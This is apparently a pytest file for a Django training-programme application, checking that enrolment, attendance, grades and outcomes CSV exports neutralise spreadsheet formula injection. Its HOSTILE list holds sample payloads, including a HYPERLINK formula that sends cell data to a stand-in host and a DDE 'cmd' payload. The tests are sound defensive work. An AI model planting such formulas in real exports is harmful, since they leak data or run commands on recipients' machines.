"""CSV injection (OWASP): no export lets a spreadsheet run what a participant typed."""

import csv
import io
import re
from decimal import Decimal
from pathlib import Path

import pytest
from django.conf import settings
from django.urls import reverse

from cohorts import enrolment_import
from school.spreadsheets import csv_writer, neutralise, restore
from tests.cohorts.factories import (
    AttendanceFactory,
    CohortFactory,
    EnrolmentFactory,
    TeachingAssignmentFactory,
)
from tests.school.factories import ProgrammeAdministratorFactory
from tests.workshops.factories import VERSION_CONTENT, RubricFactory, WorkshopFactory
from tests.workshops.outcome_factories import company_in, plan_content
from workshops.models import PlanVersion, Submission

# Every way a cell can start a formula, in the half-width and full-width forms Japanese input
# produces, and behind leading spaces.
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"詳細")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1,2)",
    "  =1+1",
]


def _rows(response) -> list[list[str]]:
    text = response.content.decode("utf-8").removeprefix("\ufeff")
    return list(csv.reader(io.StringIO(text)))


def _cells(response) -> list[str]:
    return [cell for row in _rows(response) for cell in row]


def _assert_no_cell_runs(cells: list[str]) -> None:
    for cell in cells:
        if cell.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")):
            assert re.fullmatch(r"\s*[+-]?\d+(\.\d+)?", cell), f"runs in a spreadsheet: {cell!r}"


@pytest.mark.parametrize("value", HOSTILE)
def test_a_cell_that_would_start_a_formula_is_written_as_text(value):
    assert neutralise(value) == "'" + value


@pytest.mark.parametrize("value", [-3, -2.5, Decimal("-12.50"), "-12", "-3.5", "+81", 0])
def test_negative_numbers_stay_numbers(value):
    assert neutralise(value) == value


@pytest.mark.parametrize("value", ["山田 太郎", "a=b", "taro@example.com", "", "DX-推進"])
def test_ordinary_text_is_written_unchanged(value):
    assert neutralise(value) == value


@pytest.mark.parametrize("value", HOSTILE)
def test_what_the_writer_wrote_reads_back_as_typed(value):
    stream = io.StringIO()
    csv_writer(stream).writerow([value, -1])

    cell, number = next(csv.reader(io.StringIO(stream.getvalue())))

    assert restore(cell) == value
    assert number == "-1"


def test_no_module_writes_a_csv_without_the_neutralising_writer():
    offenders = [
        str(path.relative_to(settings.BASE_DIR))
        for app in ("school", "cohorts", "workshops", "certificates", "cms")
        for path in (Path(settings.BASE_DIR) / app).rglob("*.py")
        if path.name != "spreadsheets.py"
        and re.search(r"csv\.(writer|DictWriter)\(", path.read_text(encoding="utf-8"))
    ]

    assert offenders == []


@pytest.mark.django_db
def test_the_enrolment_export_neutralises_names_companies_and_job_titles(client):
    assignment = TeachingAssignmentFactory()
    for value in HOSTILE:
        EnrolmentFactory(
            cohort=assignment.cohort,
            user__last_name=value,
            user__first_name=value,
            user__last_name_kana=value,
            user__last_name_roman=value,
            company__name=value,
            company__name_kana=value,
            job_title=value,
        )
    client.force_login(assignment.user)

    response = client.get(reverse("cohorts:export_enrolments", args=[assignment.cohort.pk]))

    cells = _cells(response)
    _assert_no_cell_runs(cells)
    assert cells.count("'" + HOSTILE[0]) == 7


@pytest.mark.django_db
def test_the_attendance_export_neutralises_names_companies_and_session_names(client):
    assignment = TeachingAssignmentFactory()
    for value in HOSTILE:
        AttendanceFactory(
            session__cohort=assignment.cohort,
            session__name_ja=value,
            enrolment__cohort=assignment.cohort,
            enrolment__user__last_name=value,
            enrolment__company__name=value,
        )
    client.force_login(assignment.user)

    response = client.get(reverse("cohorts:export_attendance", args=[assignment.cohort.pk]))

    cells = _cells(response)
    _assert_no_cell_runs(cells)
    assert "'" + HOSTILE[0] in cells


@pytest.mark.django_db
def test_the_grades_export_neutralises_names_companies_and_criteria(client):
    rubric = RubricFactory()
    criterion = rubric.criteria.first()
    criterion.title_ja = criterion.title_en = HOSTILE[0]
    criterion.save()
    workshop = WorkshopFactory(rubric=rubric)
    teacher = TeachingAssignmentFactory(cohort=workshop.cohort).user
    for value in HOSTILE:
        enrolment = EnrolmentFactory(
            cohort=workshop.cohort,
            user__last_name=value,
            user__first_name_roman=value,
            company__name=value,
        )
        submission = Submission.objects.create(
            workshop=workshop, enrolment=enrolment, version_number=1
        )
        PlanVersion.objects.create(
            enrolment=enrolment, number=1, content=VERSION_CONTENT, submission=submission
        )
    client.force_login(teacher)

    response = client.get(reverse("workshops:grades_csv", args=[workshop.pk]))

    cells = _cells(response)
    _assert_no_cell_runs(cells)
    assert cells.count("'" + HOSTILE[0]) >= 4


@pytest.mark.django_db
def test_the_outcomes_export_neutralises_cohort_names_and_keeps_negative_figures(client):
    cohort = CohortFactory(name_ja=HOSTILE[0], name_en=HOSTILE[0])
    for _ in range(3):
        company_in(cohort, plan=plan_content(kpis=[(100, {2026: 80, 2027: 60})]))
    client.force_login(ProgrammeAdministratorFactory())

    response = client.get(reverse("workshops:outcomes_csv"), {"by": "cohort"})

    cells = _cells(response)
    _assert_no_cell_runs(cells)
    assert "'" + HOSTILE[0] in cells


def test_the_importer_keeps_a_formula_like_value_as_typed():
    header = "last_name,first_name,email,company,job_title\n"
    text = header + '"=1+1","@太郎",taro@example.com,"+ACME","-CEO"\n'

    _columns, [(_line, row)] = enrolment_import.read_rows(text)

    assert (row["last_name"], row["first_name"], row["company"], row["job_title"]) == (
        "=1+1",
        "@太郎",
        "+ACME",
        "-CEO",
    )


def test_the_importer_reads_a_neutralised_cell_of_our_export_back_as_typed():
    stream = io.StringIO()
    writer = csv_writer(stream)
    writer.writerow(["last_name", "first_name", "email", "company"])
    writer.writerow(["=1+1", "太郎", "taro@example.com", "@ACME"])

    _columns, [(_line, row)] = enrolment_import.read_rows(stream.getvalue())

    assert (row["last_name"], row["company"]) == ("=1+1", "@ACME")
